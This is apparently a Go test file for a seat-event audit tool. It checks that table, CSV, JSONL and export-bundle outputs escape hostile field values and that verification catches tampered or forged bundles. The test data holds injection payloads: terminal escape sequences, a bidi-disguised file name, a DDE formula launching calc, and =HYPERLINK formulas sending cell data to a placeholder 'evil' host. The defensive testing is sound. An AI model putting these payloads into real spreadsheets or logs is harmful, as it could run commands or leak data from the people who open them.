package seatctl_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/seatline/seatline/internal/seatctl"
	"github.com/seatline/seatline/internal/timeline"
	"github.com/seatline/seatline/pkg/events"
)

// What a hostile data source can put in an event's fields: terminal
// control sequences (retitle, clear), bidi overrides, formulas.
const (
	osc     = "\x1b]0;pwned\x07\x1b[2J"
	formula = "=cmd|' /C calc'!A0"
	forged  = "h02" + osc + "\nverified: the bundle is intact"
)

// fillHostile writes seat events whose fields a hostile source chose.
func fillHostile(t *testing.T, b *bed) {
	t.Helper()
	at := time.Date(2025, 5, 1, 9, 0, 0, 0, time.UTC)
	mk := func(id string, off time.Duration, tr events.Transition, action, user, actor string) events.Event {
		return events.Event{DocumentID: id, Timestamp: at.Add(off), Action: action, Transition: tr, Org: "acme", OrgID: 1,
			User: user, UserID: 0, Actor: actor, ActorID: 2, Business: "acme-corp", BusinessID: 3, Raw: []byte(`{"_document_id":"x"}`)}
	}
	evs := []events.Event{
		mk("h01", 0, events.TransitionAssigned, "copilot.cfb_seat_added", "mona", formula),
		mk(forged, time.Minute, events.TransitionAssigned, "copilot.cfb_seat_added", "mallory\u202egnp.exe", "admin"+osc),
		mk("h03", 2*time.Minute, events.TransitionAssigned, "copilot.cfb_seat_added", "=HYPERLINK(\"http://evil/\"&A1)", "+admin"),
		mk("h04", 3*time.Minute, events.TransitionUnassigned, "copilot.cfb_seat_assignment_unassigned", "=HYPERLINK(\"http://evil/\"&A1)", "@admin"),
	}
	evs[0].UserAgent, evs[0].RequestID, evs[0].Reason = "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "\tx"
	var rows []timeline.Row
	for _, ev := range evs {
		rows = append(rows, timeline.NewRow(ev, "kafka", "p/"+ev.DocumentID[:3], ev.Timestamp.Add(time.Second)))
	}
	// The unassigned seat was looked up: billing stopped in the past, so
	// pending's days_left is a negative number.
	er := rows[3]
	enriched := er.Event.Timestamp.Add(time.Minute)
	er.Enrichment, er.EnrichedAt, er.Version = timeline.EnrichmentEnriched, &enriched, uint64(enriched.UnixMilli())
	er.Seat = timeline.SeatDetail{Status: timeline.SeatPendingCancellation, PlanType: "business", TeamSlug: "-team", BillableUntil: fxDate(2025, 6, 1)}
	rows = append(rows, er)
	if err := b.store.Write(context.Background(), rows, nil); err != nil {
		t.Fatal(err)
	}
}

// Event fields reach no terminal as control sequences and no spreadsheet
// as formulas, in any output.
func TestHostileValuesInEveryOutput(t *testing.T) {
	b := newBed(t)
	fillHostile(t, b)

	noControls := func(name, out string) {
		t.Helper()
		for i := 0; i < len(out); i++ {
			if c := out[i]; c < 0x20 && c != '\n' || c == 0x7f {
				t.Errorf("%s: control byte %#x in\n%q", name, c, out)
				return
			}
		}
		if strings.ContainsAny(out, "\u202e\u2066\u2067\u2068\u2069\u200b") {
			t.Errorf("%s: bidi or zero-width character in %q", name, out)
		}
	}
	// Table: every field shown, escaped.
	code, out, errs := b.run(t, "history", "--format", "table")
	noControls("history table", out)
	if code != 0 || !strings.Contains(out, `admin\x1b]0;pwned\x07\x1b[2J`) || !strings.Contains(out, `mallory\u202egnp.exe`) {
		t.Errorf("history table: exit %d %s\n%s", code, errs, out)
	}
	code, out, _ = b.run(t, "seats", "--format", "table")
	noControls("seats table", out)
	if code != 0 || !strings.Contains(out, `mallory\u202egnp.exe`) {
		t.Errorf("seats table: exit %d\n%s", code, out)
	}
	// A message quoting a value.
	code, _, errs = b.run(t, "history", "--user", "nobody"+osc)
	noControls("no rows message", errs)
	if code != 0 || !strings.Contains(errs, `no seat events match user nobody\x1b]0;pwned`) {
		t.Errorf("no rows message: exit %d %q", code, errs)
	}
	code, errs = verify(t, filepath.Join(t.TempDir(), "no"+osc))
	noControls("error message", errs)
	if code != 2 || !strings.Contains(errs, `no\x1b]0;pwned\x07\x1b[2J: the directory does not exist`) {
		t.Errorf("error message: exit %d %q", code, errs)
	}

	// csv: formula cells guarded in text columns, a negative number left be.
	code, out, errs = b.run(t, "history", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if code != 0 || err != nil {
		t.Fatalf("history csv: exit %d %v %s", code, err, errs)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("history csv: unguarded cell %q", cell)
			}
		}
	}
	if !strings.Contains(out, `'`+formula) || !strings.Contains(out, `"'=HYPERLINK(""http://evil/""&A1)"`) || !strings.Contains(out, ",'+admin,") {
		t.Errorf("history csv: guarded cells missing:\n%s", out)
	}
	code, out, _ = b.run(t, "pending", "--format", "csv")
	recs, _ = csv.NewReader(strings.NewReader(out)).ReadAll()
	if code != 0 || len(recs) != 2 || strings.Join(recs[0], ",") != "org,user,unassigned_at,unassigned_by,billable_until,days_left,team,plan,detail_source,detail_at" {
		t.Fatalf("pending csv: exit %d\n%s", code, out)
	}
	if r := recs[1]; r[1] != `'=HYPERLINK("http://evil/"&A1)` || r[3] != "'@admin" || r[6] != "'-team" || !strings.HasPrefix(r[5], "-") || r[5] == "-" {
		t.Errorf("pending csv: user, actor and team guarded, days_left a negative number: %q", r)
	}
	// jsonl: exact values.
	code, out, _ = b.run(t, "history", "--format", "jsonl")
	if code != 0 || !strings.Contains(out, `"actor":"=cmd|' /C calc'!A0"`) || !strings.Contains(out, `"actor":"admin\u001b]0;pwned\u0007\u001b[2J"`) {
		t.Errorf("history jsonl:\n%s", out)
	}

	// The export bundle: csv guarded, jsonl exact, each chain over its
	// file's values as written.
	bundle := filepath.Join(t.TempDir(), "hostile")
	if code, _, errs := b.run(t, "export", "--out", bundle, "--formats", "csv,jsonl", "--checkpoint-every", "2"); code != 0 {
		t.Fatalf("export: exit %d %s", code, errs)
	}
	if code, out := verify(t, bundle); code != 0 {
		t.Fatalf("verify: exit %d\n%s", code, out)
	}
	m := readManifest(t, bundle)
	if m.Cells == nil || m.Cells.CSVCellGuard != "owasp-quote-prefix" || !strings.Contains(m.Cells.JSONL, "no guard") ||
		m.Files[0].ChainHead == m.Files[1].ChainHead {
		t.Errorf("manifest: cells %+v, chain heads %s %s", m.Cells, m.Files[0].ChainHead, m.Files[1].ChainHead)
	}
	csvBytes, _ := os.ReadFile(filepath.Join(bundle, "events.csv"))
	jsonlBytes, _ := os.ReadFile(filepath.Join(bundle, "events.jsonl"))
	if !bytes.Contains(csvBytes, []byte(",'"+formula+",")) || !bytes.Contains(jsonlBytes, []byte(`"actor":"`+formula+`"`)) {
		t.Fatalf("bundle: csv not guarded or jsonl not exact")
	}
	// The chain, recomputed from the file's bytes alone, ends at the
	// manifest's head only with the guard's ' in the values: it is hashed.
	recs, err = csv.NewReader(bytes.NewReader(csvBytes)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var asWritten, unguarded [32]byte
	n := len(m.Columns)
	for _, rec := range recs[1:] {
		vals := rec[:n]
		asWritten = seatctl.ChainLink(asWritten, vals)
		if hex.EncodeToString(asWritten[:]) != rec[n] {
			t.Fatalf("row %s: chain_sha256 %s is not the link over the row as written", rec[2], rec[n])
		}
		stripped := make([]string, n)
		for i, v := range vals {
			stripped[i] = strings.TrimPrefix(v, "'")
		}
		unguarded = seatctl.ChainLink(unguarded, stripped)
	}
	if hex.EncodeToString(asWritten[:]) != m.Files[0].ChainHead || hex.EncodeToString(unguarded[:]) == m.Files[0].ChainHead {
		t.Errorf("csv chain head: as written %x, without the guard %x, manifest %s", asWritten, unguarded, m.Files[0].ChainHead)
	}

	// Verify's report quotes a changed row's document_id: escaped, and it
	// cannot forge a line of the report.
	d := copyDir(t, bundle)
	p := filepath.Join(d, "events.csv")
	data, _ := os.ReadFile(p)
	os.WriteFile(p, bytes.Replace(data, []byte("mallory"), []byte("mallorz"), 1), 0o644)
	code, out = verify(t, d)
	noControls("verify report", out)
	if code != 1 || !strings.Contains(out, `(document_id h02\x1b]0;pwned\x07\x1b[2J\nverified: the bundle is intact)`) {
		t.Errorf("verify of a changed hostile row: exit %d\n%s", code, out)
	}
	for _, l := range strings.Split(out, "\n") {
		if l == "verified: the bundle is intact" {
			t.Errorf("a value forged a line of the report:\n%s", out)
		}
	}

	// The guard's ' removed from the file: the hash, the row's link and the
	// guard check fail.
	d = copyDir(t, bundle)
	p = filepath.Join(d, "events.csv")
	data, _ = os.ReadFile(p)
	os.WriteFile(p, bytes.Replace(data, []byte(",'"+formula), []byte(","+formula), 1), 0o644)
	code, out = verify(t, d)
	if code != 1 || !strings.Contains(out, "FAIL  events.csv: SHA-256") || !strings.Contains(out, "FAIL  events.csv: row 1 (line 2) does not match the chain (document_id h01)") ||
		!strings.Contains(out, `FAIL  events.csv: row 1, column actor begins with "=" without the cell guard the manifest states`) {
		t.Errorf("guard removed: exit %d\n%s", code, out)
	}
	// Removed by someone who recomputes every chain value, the file's hash,
	// the head and the manifest's hash (an unsigned bundle): the guard check
	// still fails the bundle.
	d = copyDir(t, bundle)
	head := rechain(t, filepath.Join(d, "events.csv"), n, func(vals []string) {
		for i, v := range vals {
			if v == "'"+formula {
				vals[i] = formula
			}
		}
	})
	forgeManifest(t, d, func(m *seatctl.Manifest) { m.Files[0].ChainHead, m.Files[0].Checkpoints = head, nil })
	code, out = verify(t, d)
	if code != 1 || !strings.Contains(out, `FAIL  events.csv: row 1, column actor begins with "=" without the cell guard`) || strings.Contains(out, "FAIL  events.csv: SHA-256") {
		t.Errorf("guard removed, chain forged: exit %d\n%s", code, out)
	}

	// A byte of either data file changed, even with the file hashes in the
	// manifest recomputed to match: the rows, re-read from the file's bytes,
	// no longer chain. The first and last 48 bytes, and every 23rd.
	for _, name := range []string{"events.csv", "events.jsonl"} {
		orig, _ := os.ReadFile(filepath.Join(bundle, name))
		d := copyDir(t, bundle)
		tried, caught := 0, 0
		for off := range orig {
			if off >= 48 && off < len(orig)-48 && off%23 != 0 {
				continue
			}
			tried++
			flipped := bytes.Clone(orig)
			flipped[off] ^= 0x01
			if err := os.WriteFile(filepath.Join(d, name), flipped, 0o644); err != nil {
				t.Fatal(err)
			}
			forgeManifest(t, d, nil)
			rep, err := seatctl.Verify(d, seatctl.VerifyOptions{})
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range rep.Problems {
				if p.File == name && !strings.HasPrefix(p.Message, "SHA-256") {
					caught++
					break
				}
			}
			if caught != tried {
				t.Fatalf("%s: byte %d (%q → %q) flipped, hashes recomputed: the rows still verify: %+v", name, off, orig[off], flipped[off], rep.Problems)
			}
		}
		t.Logf("%s: %d of its %d bytes flipped in turn, every change caught by the rows", name, tried, len(orig))
	}
}

// rechain rewrites a bundle's csv file with edit applied to each row's
// values and every chain value recomputed, as someone who knows the rule
// would, and returns the new head.
func rechain(t *testing.T, path string, n int, edit func(vals []string)) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var prev [32]byte
	for _, rec := range recs[1:] {
		edit(rec[:n])
		prev = seatctl.ChainLink(prev, rec[:n])
		rec[n] = hex.EncodeToString(prev[:])
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.WriteAll(recs)
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(prev[:])
}

// forgeManifest rewrites a bundle's manifest as a forger would: edit
// applied, each file's size and SHA-256 recomputed, manifest.sha256 to
// match.
func forgeManifest(t *testing.T, dir string, edit func(m *seatctl.Manifest)) {
	t.Helper()
	m := readManifest(t, dir)
	if edit != nil {
		edit(m)
	}
	for i := range m.Files {
		data, err := os.ReadFile(filepath.Join(dir, m.Files[i].Name))
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(data)
		m.Files[i].SHA256, m.Files[i].Bytes = hex.EncodeToString(sum[:]), int64(len(data))
	}
	body, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(body)
	if err := os.WriteFile(filepath.Join(dir, "manifest.json"), body, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "manifest.sha256"), []byte(hex.EncodeToString(sum[:])+"  manifest.json\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

// readManifest reads a bundle's manifest.json.
func readManifest(t *testing.T, dir string) *seatctl.Manifest {
	t.Helper()
	body, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m seatctl.Manifest
	if err := json.Unmarshal(body, &m); err != nil {
		t.Fatal(err)
	}
	return &m
}
